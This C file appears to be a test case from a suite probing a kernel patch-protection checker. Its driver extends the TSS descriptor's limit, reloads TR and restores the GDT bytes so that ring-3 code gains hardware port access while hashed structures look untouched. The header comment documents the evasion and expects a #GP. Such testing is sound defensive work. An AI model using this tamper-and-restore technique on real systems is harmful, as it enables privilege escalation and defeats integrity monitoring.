/* attack_a152_tr_cache (A152): ports for ring 3 from TR's cached limit.
 * The processor reads the TSS (RSP0, the IST stacks, the I/O-permission
 * map) through the base and limit it cached when TR was loaded, not
 * through the GDT. The driver writes the TSS descriptor with its limit
 * 8 KiB longer and its type available, loads TR again with the same
 * selector (A83 `tss_limit`), and at once writes the descriptor back as it
 * was, busy bit included: the GDT, the TSS, TR's selector and every byte
 * PatchGuard hashes read as armed, while the processor's I/O-permission
 * checks now reach past the TSS into the kernel data that follows it,
 * whose zero bits open their ports to ring 3 (a TSS without a map, whose
 * map offset is its limit plus one, used to grant none). `fault port`
 * (asleep, then reading port 0x61) survives instead of being killed.
 * Expected (since the kernel's TSS carries a map of its own, every bit
 * set, to its limit): the program is killed by a #GP; no bug check, since
 * no register or byte a checker can read differs. */
#include "attack_pg.h"

#define SEL_TSS 0x30
#define TSS_BUSY (2ull << 40)

status_t driver_entry(struct driver_object *drv)
{
	uint64_t *g = a_gdt();
	uint64_t pf = a_cli();
	uint64_t was = g[SEL_TSS / 8];
	uint64_t limit = ((was & 0xFFFF) | (((was >> 48) & 0xF) << 16)) + 0x2000;
	uint64_t d = (was & ~0xFFFFull & ~(0xFull << 48) & ~TSS_BUSY) | (limit & 0xFFFF) | (((limit >> 16) & 0xF) << 48);
	a_write_protected(&g[SEL_TSS / 8], &d, 8);
	__asm__ volatile("ltr %w0" ::"r"((uint16_t)SEL_TSS));
	a_write_protected(&g[SEL_TSS / 8], &was, 8);
	printk("attack_a152: TR loaded with the TSS limit 8 KiB longer; the GDT's descriptor put back as it was\n");
	a_patched("attack_a152");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
